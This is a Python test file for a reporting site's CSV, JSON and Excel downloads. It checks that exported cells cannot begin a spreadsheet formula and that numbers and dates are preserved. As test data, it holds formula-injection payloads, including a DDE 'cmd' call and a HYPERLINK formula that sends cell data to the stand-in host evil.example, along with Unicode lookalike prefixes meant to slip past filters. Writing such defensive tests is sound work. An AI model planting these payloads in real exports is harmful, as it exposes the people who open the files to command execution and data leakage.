"""Files that readers take away: no cell runs, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
from datetime import UTC, date, datetime
from decimal import Decimal

import duckdb
import openpyxl
import pytest

from okr_reports.report_site.build import build_site
from okr_reports.report_site.views.downloads import csv_bytes, json_bytes, safe_cell, xlsx_bytes

COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"go")',
    "SUM(A1:A9)",
    "@SUM(1)",
    "IMPORTXML(1)",
)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "  +",
    "=\t",
    "＝",
    "＋",
    "－",
    "＠",
    "-@",
    "+=",
    "=-",
    "@=",
    "==",
    # not seen, or seen as another
    *(
        f"{unseen}="
        for unseen in "\u200b\ufeff\u2060\u200e\u202e\u2068\u00ad\u3000\u2003\u3164\u2800\x00\x0b\x1b\u0301\U000e0020"
    ),
    "\ufeff\u200b \u00a0＝",
    *"﹦⁼₌⁺₊﹢﬩﹣⁻₋−‐–—➕➖﹫═",
)
VISIBLE_STARTS = tuple(start for start in STARTS if start[0] not in "\t\r\n")
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
MOMENT = datetime(2026, 11, 23, 6, 10, tzinfo=UTC)


def test_there_are_120_formula_payloads():
    assert len(PAYLOADS) >= 120


@pytest.mark.parametrize(
    "text", ["Otoño", "5 % = 5", "二月", "ﷺ", "\u200eעברית", "e=mc", "#1", "(a)", "'=", "\ufeff", "٣", "ー"]
)
def test_other_texts_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_begins_a_formula(payload):
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[payload]]).decode("utf-8-sig"), newline="")))
    # a part after a separator is guarded too
    assert rows[1][0] == "'" + re.sub("([\t\r\n])(?=[=+@-])", r"\1'", payload)


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r", "\r\n", ";;", ";\n"])
def test_no_part_of_a_cell_begins_a_formula_whatever_separates_the_cells(separator):
    rows = [["a", f"Ann{separator}{payload}"] for payload in PAYLOADS]
    text = csv_bytes(["day", "name"], rows).decode("utf-8-sig")
    for delimiter in ",;\t":
        # Each line by itself: a quote within a cell does not hold a new line together.
        lines = re.split("[\r\n]+", text)
        cells = [cell for line in lines for row in csv.reader([line], delimiter=delimiter) for cell in row]
        assert len(cells) > len(PAYLOADS)
        assert not [cell for cell in cells if cell.startswith(VISIBLE_STARTS)]


@pytest.mark.parametrize("text", ["Brand; search", "a;b", "A\nB", "x;(=1)", "a;b=c;d-e"])
def test_separators_without_a_formula_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_no_workbook_cell_is_a_formula_or_a_link():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"=t[1]/x": (["name"], [[p] for p in PAYLOADS])}, MOMENT, "=t"))
    )
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert len(cells) == len(PAYLOADS)


NUMBERS = [0, -1, 2.5, -0.125, Decimal("-12.500000000"), Decimal("1234567.89"), 10**12]


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_are_not_altered(number):
    assert float(str(safe_cell(number))) == float(number)
    assert json.loads(json_bytes(["n"], [[number]]))[0]["n"] == float(number)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": (["n"], [[number]])}, MOMENT, "t")))
    assert book.active["A2"].value == float(number)


def test_dates_and_gaps():
    row = [date(2026, 11, 22), MOMENT, None, math.nan, True]
    assert csv_bytes(["a", "b", "c", "d", "e"], [row]).decode("utf-8-sig").split("\r\n")[1] == (
        "2026-11-22,2026-11-23T06:10:00+00:00,,,True"
    )
    parsed = json.loads(json_bytes(["a", "b", "c", "d", "e"], [row]))[0]
    assert parsed == {"a": "2026-11-22", "b": "2026-11-23T06:10:00+00:00", "c": None, "d": None, "e": True}
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": (list("abcde"), [row])}, MOMENT, "t")))
    assert [cell.value for cell in book.active[2]] == [
        datetime(2026, 11, 22),
        datetime(2026, 11, 23, 6, 10),
        None,
        None,
        True,
    ]


def test_equal_tables_give_equal_workbooks():
    sheets = {"A": (["x"], [[1]]), "a": (["y"], [["b"]]), "x" * 40: (["z"], [])}
    assert xlsx_bytes(sheets, MOMENT, "t") == xlsx_bytes(sheets, MOMENT, "t")


def test_a_page_offers_its_tables(built):
    page = (built.out_dir / "channels/linkedin_ads/index.html").read_text(encoding="utf-8")
    links = [one.split('"')[0] for one in page.split('href="../../data/tables/')[1:]]
    assert {link.rsplit(".")[-1] for link in links} == {"csv", "xlsx"}
    workbook = next(link for link in links if link.endswith(".xlsx"))
    book = openpyxl.load_workbook(built.out_dir / "data/tables" / workbook)
    campaigns = book["campaigns"]
    assert [cell.value for cell in campaigns[1]][:3] == ["campaign_name", "account_name", "spend"]
    assert campaigns["A5"].value == '=HYPERLINK("http://evil.example","x")'
    assert campaigns["A5"].data_type == "s"
    assert isinstance(campaigns["C2"].value, int | float)


DEFINED = """---
title: Home
---
```sql spent
select channel, sum(spend) as cost, sum(leads) as leads from fct_ad_daily group by all
```
{% table data="spent" %}
{% dimension value="channel" title="Channel" /%}
{% measure value="sum(cost)" title="Cost" fmt="cur0" /%}
{% measure value="sum(leads) / sum(cost)" title="Rate" fmt="pct1" /%}
{% /table %}
{% download data="fct_note" /%}
"""


def test_a_workbook_says_what_its_columns_mean(reports, snapshot, tmp_path):
    described = tmp_path / "okr.duckdb"
    shutil.copy(snapshot, described)
    with duckdb.connect(str(described)) as connection:
        connection.execute("comment on column marts.fct_ad_daily.channel is 'Channel id.'")
        connection.execute("comment on column marts.fct_ad_daily.leads is 'Leads of forms.'")
        (through,) = connection.execute("select data_through from marts.report_context").fetchone()
    site = build_site(described, reports({"pages/index.md": DEFINED}), tmp_path / "site").out_dir
    (path,) = site.glob("data/tables/page-*.xlsx")
    rows = [[cell.value for cell in row] for row in openpyxl.load_workbook(path)["definitions"]]
    assert rows[0] == ["table", "column", "title", "definition", "unit", "source", "data through"]
    told = {(row[0], row[2]): row[3:6] for row in rows[1:]}
    assert told["spent", "Channel"] == ["Channel id.", "", "fct_ad_daily"]
    assert told["spent", "Cost"] == ["sum(cost)", "EUR", "fct_ad_daily"]
    assert told["spent", "Rate"] == ["sum(leads) / sum(cost): Leads of forms.", "share (0.1 is 10 %)", "fct_ad_daily"]
    assert {row[0] for row in rows[1:]} == {"spent", "fct_note"}
    assert {row[6].date() for row in rows[1:]} == {through}
